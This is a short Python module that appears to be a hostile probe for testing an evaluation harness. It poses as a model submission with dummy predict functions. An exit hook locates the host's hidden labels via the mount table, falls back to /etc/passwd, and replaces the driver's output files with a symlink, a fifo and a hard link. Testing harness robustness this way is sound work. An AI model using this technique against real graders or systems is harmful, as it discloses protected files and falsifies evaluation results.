"""After the driver is done (atexit), replaces its outputs: predictions.csv becomes a symlink
to the host's hidden labels (path learnt from the mount table), timings.json a fifo and
driver_error.json a hard link to predictions."""

# ruff: noqa: SIM115  (hostile probes: brevity over tidiness)

import atexit
import os


def hidden_labels():
    for line in open("/proc/self/mountinfo"):
        fields = line.split()
        if fields[4] == "/data/eval":
            return os.path.join(os.path.dirname(fields[3]), "hidden", "labels.csv")
    return "/etc/passwd"


def replace_outputs():
    target = hidden_labels()
    for name in ("predictions.csv", "timings.json", "driver_error.json"):
        path = os.path.join("/output", name)
        if os.path.lexists(path):
            os.unlink(path)
    os.symlink(target, "/output/predictions.csv")
    os.mkfifo("/output/timings.json")
    with open("/output/copy.csv", "w") as handle:
        handle.write("customer_id,prediction\n")
    os.link("/output/copy.csv", "/output/driver_error.json")
    print("replaced the driver's outputs; predictions.csv ->", target, flush=True)


atexit.register(replace_outputs)


def load(model_dir):
    return 0.5


def predict(model, frame):
    return [model] * len(frame)
